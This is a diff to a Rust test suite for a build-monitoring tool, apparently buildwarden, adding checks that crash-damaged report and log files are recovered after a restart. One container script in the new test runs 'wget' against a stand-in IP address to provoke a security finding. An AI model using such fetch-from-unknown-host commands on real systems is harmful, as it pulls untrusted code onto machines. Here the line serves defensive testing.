@@ -112,7 +112,7 @@ fn append(dir: &Dir, name: &str, text: &str) {
 #[test]
 fn root_a_restart_loses_nothing_that_was_written_down() {
     type Damage = fn(&Dir);
-    let cases: [(&str, Damage, &str, Option<&str>, usize); 5] = [
+    let cases: [(&str, Damage, &str, Option<&str>, usize); 6] = [
         (
             "a torn event file",
             |dir| append(dir, "execs.jsonl", "{\"exec\":9,\"t\":"),
@@ -152,6 +152,15 @@ fn root_a_restart_loses_nothing_that_was_written_down() {
             None,
             1,
         ),
+        (
+            "half of a report",
+            |dir| {
+                fs::write(report_directory(dir, "web").join("report.json"), "{\"tool\":").unwrap()
+            },
+            "the machine was restarted",
+            None,
+            1,
+        ),
     ];
     for (what, damage, reason, other, findings) in cases {
         let dir = Dir::with_bpffs();
@@ -163,6 +172,30 @@ fn root_a_restart_loses_nothing_that_was_written_down() {
         assert!(other.is_none_or(|other| reasons.iter().any(|said| said == other)), "{reasons:?}");
         assert_ne!(report.verdict, Verdict::Clean, "{what}");
     }
+}
+
+#[test]
+fn root_a_report_whose_log_does_not_say_so_stays() {
+    let dir = Dir::new();
+    Container::new(&dir, "web").script("wget http://198.51.100.13/x; true").run().expect_code(0);
+    dir.expect_nothing_live();
+    let written = fs::read(report_directory(&dir, "web").join("report.json")).unwrap();
+    let log = report_directory(&dir, "web").join("annotations.jsonl");
+    let whole = fs::read_to_string(&log).unwrap();
+    let cut = whole.trim_end().rfind('\n').unwrap();
+    // The last line torn, and not there at all.
+    for length in [cut + 20, cut + 1] {
+        fs::write(&log, &whole[..length]).unwrap();
+        let said = "web: its log did not say that its report is written; it does now\n";
+        assert_eq!(gc(&dir, &[]), said);
+        let list = run(&mut dir.buildwarden(["list", "--json"])).stdout();
+        assert!(
+            list.contains("\"verdict\": \"findings\"") && list.contains("\"medium\": 1"),
+            "{list}"
+        );
+        assert_eq!(gc(&dir, &[]), "");
+    }
+    assert_eq!(fs::read(report_directory(&dir, "web").join("report.json")).unwrap(), written);
 }
 
 /// The run directory is lost, and nothing else: what is recorded is still there.
